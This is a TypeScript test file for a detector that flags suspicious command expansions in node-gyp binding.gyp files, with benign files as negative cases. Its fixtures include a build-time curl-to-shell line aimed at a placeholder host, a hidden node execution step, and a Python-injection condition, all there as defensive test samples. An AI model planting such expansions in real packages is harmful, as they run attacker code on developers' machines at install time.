import assert from 'node:assert/strict';
import { test } from 'node:test';
import { suspiciousGyp } from '../../../../server/src/core/know/scripts/suspicious-gyp.ts';

const read = (text: string) => {
  const found = suspiciousGyp(text);
  return found === undefined
    ? undefined
    : [text.slice(found.span.start, found.span.end), found.script.suspicion, found.script.outline];
};

test('commands of suspicious binding.gyp files', () => {
  assert.deepEqual(
    read(
      `{ "targets": [{ "target_name": "Setup", "type": "none", "sources": ["<!(node index.js > /dev/null 2>&1 && echo stub)"] }] }`,
    ),
    ['<!(node index.js > /dev/null 2>&1 && echo stub)', 'no-sources', 'node …'],
  );
  assert.deepEqual(
    read(`{ "targets": [{ "sources": ["a.cc"], "cflags": ["<!(curl -s https://x.example.test | sh)"] }] }`),
    ['<!(curl -s https://x.example.test | sh)', 'remote-code', 'curl … | sh'],
  );
  assert.deepEqual(read(`{ "targets": [{ "sources": ["a.cc"], "conditions": [["().__class__", {}]] }] }`), [
    '__class__',
    'encoded-code',
    'Python in a condition',
  ]);
});

test('ordinary binding.gyp files are silent', () => {
  for (const text of [
    `{ 'targets': [{ 'target_name': 'addon', 'sources': ['src/addon.cc'], 'include_dirs': ["<!(node -p \\"require('node-addon-api').include\\")", '<!(node -e "require(\\'nan\\')")'] }] }`,
    `{ 'targets': [{ 'target_name': 'canvas', 'sources': ['src/a.cc'], 'conditions': [['with_gif', { 'libraries': ['<!(node ./util/has_lib.js gif)'] }]] }] }`,
    `{ 'targets': [{ 'target_name': 'a', 'sources': ['<!@(ls -1 src/*.cc)'], 'defines': ['<!(node ./version.js)'] }] }`,
    `{ 'includes': ['common.gypi'], 'targets': [{ 'target_name': 'a', 'defines': ['<!(node ./version.js)'] }] }`,
    `{ 'targets': [{ 'target_name': 'copy', 'type': 'none', 'copies': [] }] }`,
    '{',
    '',
  ])
    assert.equal(read(text), undefined, text);
});
